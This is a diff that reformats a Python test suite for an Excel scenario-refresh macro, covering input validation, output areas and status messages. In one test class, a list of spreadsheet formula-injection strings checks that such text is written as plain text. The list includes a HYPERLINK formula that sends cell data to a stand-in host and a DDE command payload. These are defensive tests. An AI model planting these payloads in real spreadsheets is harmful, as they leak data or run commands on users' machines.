@@ -59,8 +59,10 @@ class Options:
 
     @property
     def value(self):
-        grid = [[self.rng.sheet.cells.get((r, c)) for c in range(self.rng.column, self.rng.column + self.rng.columns)]
-                for r in range(self.rng.row, self.rng.row + self.rng.rows)]
+        grid = [
+            [self.rng.sheet.cells.get((r, c)) for c in range(self.rng.column, self.rng.column + self.rng.columns)]
+            for r in range(self.rng.row, self.rng.row + self.rng.rows)
+        ]
         grid = [[(x.text if self.err_to_str else None) if isinstance(x, XlErr) else x for x in row] for row in grid]
         return grid if self.ndim == 2 else Range._shape(grid)
 
@@ -79,7 +81,9 @@ def excel_converts(text: str):
         return float(t[:-1]) / 100
     m = re.fullmatch(r"(\d{1,2})/(\d{1,2})", t)
     if m and 1 <= int(m.group(1)) <= 12 and 1 <= int(m.group(2)) <= 31:
-        return 46023.0 + 31 * (int(m.group(1)) - 1) + int(m.group(2)) - 1  # a serial in 2026, roughly: a number, not text
+        return (
+            46023.0 + 31 * (int(m.group(1)) - 1) + int(m.group(2)) - 1
+        )  # a serial in 2026, roughly: a number, not text
     return None
 
 
@@ -102,7 +106,11 @@ class Range:
         return Range(self.sheet, self.row, self.column, row_size or self.rows, column_size or self.columns)
 
     def cells(self):
-        return [(r, c) for r in range(self.row, self.row + self.rows) for c in range(self.column, self.column + self.columns)]
+        return [
+            (r, c)
+            for r in range(self.row, self.row + self.rows)
+            for c in range(self.column, self.column + self.columns)
+        ]
 
     @property
     def number_format(self):
@@ -114,18 +122,25 @@ class Range:
     @property
     def formula(self):
         """As xlwings: one cell's formula (or its constant as text); tuples of rows for more."""
+
         def one(r, c):
             if (r, c) in self.sheet.formulas:
                 return self.sheet.formulas[(r, c)]
             x = self.sheet.cells.get((r, c))
             return "" if x is None else (x.text if isinstance(x, XlErr) else str(x))
-        grid = tuple(tuple(one(r, c) for c in range(self.column, self.column + self.columns)) for r in range(self.row, self.row + self.rows))
+
+        grid = tuple(
+            tuple(one(r, c) for c in range(self.column, self.column + self.columns))
+            for r in range(self.row, self.row + self.rows)
+        )
         return grid[0][0] if self.shape == (1, 1) else grid
 
     @property
     def value(self):
-        grid = [[self.sheet.cells.get((r, c)) for c in range(self.column, self.column + self.columns)]
-                for r in range(self.row, self.row + self.rows)]
+        grid = [
+            [self.sheet.cells.get((r, c)) for c in range(self.column, self.column + self.columns)]
+            for r in range(self.row, self.row + self.rows)
+        ]
         return self._shape([[None if isinstance(x, XlErr) else x for x in row] for row in grid])
 
     @staticmethod
@@ -141,7 +156,11 @@ class Range:
 
     @value.setter
     def value(self, data):
-        rows = data if isinstance(data, list) and data and isinstance(data[0], list) else [data if isinstance(data, list) else [data]]
+        rows = (
+            data
+            if isinstance(data, list) and data and isinstance(data[0], list)
+            else [data if isinstance(data, list) else [data]]
+        )
         width = max(len(r) for r in rows)
         self.sheet.book.log.append(("write", self.sheet.name, self.row, self.column, len(rows), width))
         for i, r in enumerate(rows):
@@ -262,7 +281,22 @@ class Book:
     def __init__(self):
         self.log = []
         self.app = App()
-        self.sheets = Sheets([Sheet(self, n) for n in ("Cover", "Inputs", "Projection", "Scenarios", "Gap", "Risk", "Track record", "Facts", "Checks")])
+        self.sheets = Sheets(
+            [
+                Sheet(self, n)
+                for n in (
+                    "Cover",
+                    "Inputs",
+                    "Projection",
+                    "Scenarios",
+                    "Gap",
+                    "Risk",
+                    "Track record",
+                    "Facts",
+                    "Checks",
+                )
+            ]
+        )
         self.names = Names(self)
 
     def define(self, name, sheet, address, value=None):
@@ -356,8 +390,10 @@ class TestRefresh:
         assert header[0] == "Year" and header[-1] == "Total"
         assert grid[first + 2][0] == 2026
         assert grid[first + 2][header.index("Junior")] == pytest.approx(33000)  # held at its 2025 peak through 2026
-        assert message == ("Refreshed by the Refresh button: 5 scenarios (base, bear, bull, plan, track_record), 2026-2030, "
-                           "target 400,000; risk: 2,000 paths around bear, seed 11")
+        assert message == (
+            "Refreshed by the Refresh button: 5 scenarios (base, bear, bull, plan, track_record), 2026-2030, "
+            "target 400,000; risk: 2,000 paths around bear, seed 11"
+        )
         assert book.sheets["Scenarios"].cells[(2, 2)] == message
         assert book.app.alerts == []
 
@@ -368,10 +404,22 @@ class TestRefresh:
         assert (out.sheet.name, out.row, out.column) == ("Risk", 6, 1)
         assert out.shape == risk_shape()
         grid = out.value
-        assert grid[0][0] == "What-if: yearly total across 2,000 paths around scenario bear, seed 11 (units); current year unconditioned"
-        assert grid[1][:4] == ["Year", "P10", "P50", "P90"] and [r[0] for r in grid[2:7]] == [2026, 2027, 2028, 2029, 2030]
+        assert (
+            grid[0][0]
+            == "What-if: yearly total across 2,000 paths around scenario bear, seed 11 (units); current year unconditioned"
+        )
+        assert grid[1][:4] == ["Year", "P10", "P50", "P90"] and [r[0] for r in grid[2:7]] == [
+            2026,
+            2027,
+            2028,
+            2029,
+            2030,
+        ]
         assert all(r[1] <= r[2] <= r[3] for r in grid[2:7])
-        assert grid[8][0] == "What-if: probability of reaching 400,000 a year (2,000 paths around scenario bear, seed 11), with its standard error"
+        assert (
+            grid[8][0]
+            == "What-if: probability of reaching 400,000 a year (2,000 paths around scenario bear, seed 11), with its standard error"
+        )
         assert all(0 <= r[1] <= 1 for r in grid[10:15])
         header = grid[17]
         assert header == ["Driver", "Low", "High", "Swing", "Low setting", "High setting", "Scenario"]
@@ -390,9 +438,16 @@ class TestRefresh:
         status = book.names["out_status"].refers_to_range
         assert written_cells(book) <= owned_cells(book, *before, *after, status)
         assert {e[1] for e in book.writes()} == {"Scenarios", "Risk"}
-        assert {e[1] for e in book.log if e[0] == "name"} == {"out_scenarios", "out_risk", "_written_out_scenarios", "_written_out_risk",
-                                                                     "_written_at_out_scenarios", "_written_at_out_risk",
-                                                                     "_written_rows_out_scenarios", "_written_rows_out_risk"}
+        assert {e[1] for e in book.log if e[0] == "name"} == {
+            "out_scenarios",
+            "out_risk",
+            "_written_out_scenarios",
+            "_written_out_risk",
+            "_written_at_out_scenarios",
+            "_written_at_out_risk",
+            "_written_rows_out_scenarios",
+            "_written_rows_out_risk",
+        }
 
     def test_stored_copies_of_the_live_tables_follow_and_excel_recalculates(self):
         """The hidden names holding the live tables' last values (shown by Excel without the
@@ -428,15 +483,21 @@ class TestRefresh:
     def test_a_horizon_longer_than_the_sheets_hold_is_refused(self):
         book = make_book(end=2045)
         message = macros.refresh_scenarios(book)
-        assert message == ("Refresh stopped, nothing changed: Inputs!C5 (in_end_year): 20 years from 2026; the sheets hold at most 19 "
-                           "(got 2045); type an end year of 2044 or earlier, or a later start year")
+        assert message == (
+            "Refresh stopped, nothing changed: Inputs!C5 (in_end_year): 20 years from 2026; the sheets hold at most 19 "
+            "(got 2045); type an end year of 2044 or earlier, or a later start year"
+        )
         assert book.writes() == [("write", "Scenarios", 2, 2, 1, 1)]  # the status cell only
 
     def test_both_areas_written_inside_one_quiet_block(self):
         book = make_book()
         macros.refresh_scenarios(book)
-        assert book.app.changes == [("calculation", "manual"), ("screen_updating", False),
-                                    ("calculation", "automatic"), ("screen_updating", True)]
+        assert book.app.changes == [
+            ("calculation", "manual"),
+            ("screen_updating", False),
+            ("calculation", "automatic"),
+            ("screen_updating", True),
+        ]
 
     def test_workbook_without_risk_area(self):
         """A workbook without out_risk (built before the Risk sheet) refreshes its scenarios."""
@@ -515,23 +576,30 @@ class TestRefresh:
         message = macros.refresh_scenario(book)
         grid = book.names["out_scenarios"].refers_to_range.value
         assert grid[2][0] == "bear" and len(grid) == expected_shape(1)[0]
-        assert book.names["out_risk"].refers_to_range.value[0][0].startswith("What-if: yearly total across 2,000 paths around scenario bear")
+        assert (
+            book.names["out_risk"]
+            .refers_to_range.value[0][0]
+            .startswith("What-if: yearly total across 2,000 paths around scenario bear")
+        )
         assert message.startswith("Refreshed by the Refresh button: 1 scenario (bear), ")
 
 
 class TestValidationFirst:
-    @pytest.mark.parametrize("name, value, expected", [
-        ("in_start_year", "next year", "in_start_year"),
-        ("in_end_year", 2020, "in_end_year"),
-        ("in_target", -5, "in_target"),
-        ("in_scenario_list", [["base"], ["beer"]] + [[None]] * 6, "in_scenario_list"),
-        ("in_scenario", "moonshot", "in_scenario"),
-        ("in_paths", -10, "in_paths"),
-        ("in_paths", 2_000_000, "in_paths"),
-        ("in_paths", 12.5, "in_paths"),
-        ("in_seed", -1, "in_seed"),
-        ("in_seed", "lucky", "in_seed"),
-    ])
+    @pytest.mark.parametrize(
+        "name, value, expected",
+        [
+            ("in_start_year", "next year", "in_start_year"),
+            ("in_end_year", 2020, "in_end_year"),
+            ("in_target", -5, "in_target"),
+            ("in_scenario_list", [["base"], ["beer"]] + [[None]] * 6, "in_scenario_list"),
+            ("in_scenario", "moonshot", "in_scenario"),
+            ("in_paths", -10, "in_paths"),
+            ("in_paths", 2_000_000, "in_paths"),
+            ("in_paths", 12.5, "in_paths"),
+            ("in_seed", -1, "in_seed"),
+            ("in_seed", "lucky", "in_seed"),
+        ],
+    )
     def test_bad_input_writes_nothing_but_the_status(self, name, value, expected):
         book = make_book()
         book.names[name].refers_to_range.value = value
@@ -560,11 +628,14 @@ class TestValidationFirst:
         book.names["in_seed"].refers_to_range.value = 2.5
         book.log.clear()
         message = macros.refresh_scenarios(book)
-        assert message.startswith("Refresh stopped, nothing changed: Inputs!C19 (in_seed): not a whole number (got 2.5)")
+        assert message.startswith(
+            "Refresh stopped, nothing changed: Inputs!C19 (in_seed): not a whole number (got 2.5)"
+        )
         assert book.writes() == [("write", "Scenarios", 2, 2, 1, 1)]
         assert book.sheets["Risk"].cells == cells["Risk"]
         assert {k: v for k, v in book.sheets["Scenarios"].cells.items() if k != (2, 2)} == {
-            k: v for k, v in cells["Scenarios"].items() if k != (2, 2)}
+            k: v for k, v in cells["Scenarios"].items() if k != (2, 2)
+        }
 
     def test_blank_paths_and_seed_take_the_defaults(self):
         book = make_book(scenarios=["base"], paths=None, seed=None)
@@ -631,7 +702,14 @@ def test_clear_scenarios():
 
 
 class TestWritesOnlyWhatItOwns:
-    EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\rReturn"]
+    EVIL = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\tTab",
+        "\rReturn",
+    ]
 
     def test_text_that_looks_like_a_formula_stays_text(self):
         rows = lineup_rows()
@@ -645,13 +723,16 @@ class TestWritesOnlyWhatItOwns:
         assert message.startswith("Refreshed"), message
         assert all(not s.formulas for s in book.sheets)  # Excel entered no formula
         texts = {v for s in book.sheets for v in s.cells.values() if isinstance(v, str)}
-        assert {n.strip() for n in self.EVIL[:len(planned)]} <= {t.strip() for t in texts}
+        assert {n.strip() for n in self.EVIL[: len(planned)]} <= {t.strip() for t in texts}
 
-    @pytest.mark.parametrize("name, ref, fragment", [
-        ("out_scenarios", "$A$1:$B$3", "defined name out_scenarios: on sheet Inputs, not on Scenarios"),
-        ("out_risk", "$A$6", "defined name out_risk: on sheet Inputs, not on Risk"),
-        ("out_status", "$C$3", "defined name out_status: on sheet Inputs, not on Scenarios"),
-    ])
+    @pytest.mark.parametrize(
+        "name, ref, fragment",
+        [
+            ("out_scenarios", "$A$1:$B$3", "defined name out_scenarios: on sheet Inputs, not on Scenarios"),
+            ("out_risk", "$A$6", "defined name out_risk: on sheet Inputs, not on Risk"),
+            ("out_status", "$C$3", "defined name out_status: on sheet Inputs, not on Scenarios"),
+        ],
+    )
     def test_owned_name_on_another_sheet_is_refused(self, name, ref, fragment):
         book = make_book()
         book.define(name, "Inputs", ref)
@@ -660,7 +741,9 @@ class TestWritesOnlyWhatItOwns:
         assert message.startswith("Refresh stopped, nothing changed: " + fragment)
         # nothing written anywhere but the status cell on Scenarios (not even the status
         # line, when out_status itself points at Inputs)
-        assert {s.name: dict(s.cells) for s in book.sheets if s.name != "Scenarios"} == {k: v for k, v in before.items() if k != "Scenarios"}
+        assert {s.name: dict(s.cells) for s in book.sheets if s.name != "Scenarios"} == {
+            k: v for k, v in before.items() if k != "Scenarios"
+        }
         assert not [e for e in book.writes() if e[1] != "Scenarios"]
 
     def test_owned_area_overlapping_the_status_cell_is_refused(self):
